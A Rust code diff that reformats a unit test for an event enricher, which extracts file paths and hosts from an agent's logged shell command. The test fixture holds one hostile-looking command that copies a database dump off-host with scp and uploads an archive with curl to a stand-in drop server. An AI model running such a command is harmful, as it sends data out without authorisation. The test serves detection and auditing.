@@ -395,17 +395,26 @@ fn shell_commands_yield_paths_and_hosts() {
     let mut e = ev(&[
         ("event_name", TOOL_RESULT),
         ("tool_name", "exec_command"),
-        ("arguments", r#"{"cmd": "scp ./a/../dump.sql ops@db1.corp.example:/tmp/ && curl -T x.tar https://drop.example.net/u"}"#),
+        (
+            "arguments",
+            r#"{"cmd": "scp ./a/../dump.sql ops@db1.corp.example:/tmp/ && curl -T x.tar https://drop.example.net/u"}"#,
+        ),
     ]);
     en.enrich(&mut e);
     let list = |e: &Event, f: &str| -> Vec<String> {
         match e.get(f) {
-            Some(Value::Array(items)) => items.iter().filter_map(|v| v.as_str().map(str::to_owned)).collect(),
+            Some(Value::Array(items)) => items
+                .iter()
+                .filter_map(|v| v.as_str().map(str::to_owned))
+                .collect(),
             _ => Vec::new(),
         }
     };
     assert_eq!(list(&e, "command_paths"), ["dump.sql", "x.tar"]);
-    assert_eq!(list(&e, "command_hosts"), ["db1.corp.example", "drop.example.net"]);
+    assert_eq!(
+        list(&e, "command_hosts"),
+        ["db1.corp.example", "drop.example.net"]
+    );
 
     // a client-sent value is removed when the command names nothing
     let mut e = ev(&[
